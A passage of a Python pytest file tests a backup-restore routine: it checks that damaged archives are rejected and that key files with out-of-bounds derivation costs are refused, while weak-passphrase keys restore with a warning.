    connection.execute(f"INSERT INTO {table} VALUES ({marks})", values)
    connection.commit()
    connection.close()
    make(source, tmp_path / "b.tar")
    with pytest.raises(InvalidError) as caught:
        bring_back(tmp_path / "b.tar", tmp_path / "there")
    assert caught.value.code == "damaged_backup"
    assert not (tmp_path / "there").exists()


@pytest.mark.parametrize(("cost", "refused"), [((10, 1 << 30), True), ((1, 8192), False)])
def test_what_a_key_of_a_backup_costs(
    source: Path, tmp_path: Path, cost: tuple[int, int], *, refused: bool
) -> None:
    weak = KeyStore(str(source / "keys"), cost=sealing.Cost(1, 8192))
    weak.create("weak", BOB, secret_source=lambda _: b"pass", created=CREATED)
    path = source / "keys" / "weak.json"
    document = json.loads(path.read_bytes())
    document["sealed"]["operations"], document["sealed"]["memory"] = cost
    path.write_text(json.dumps(document))
    make(source, tmp_path / "b.tar")
    if refused:
        with pytest.raises(InvalidError) as caught:
            bring_back(tmp_path / "b.tar", tmp_path / "there")
        assert caught.value.code == "cost_out_of_bounds"
        assert not (tmp_path / "there").exists()
    else:
        warnings = bring_back(tmp_path / "b.tar", tmp_path / "there")["warnings"]
        assert any("twin keys passwd weak" in warning for warning in warnings)
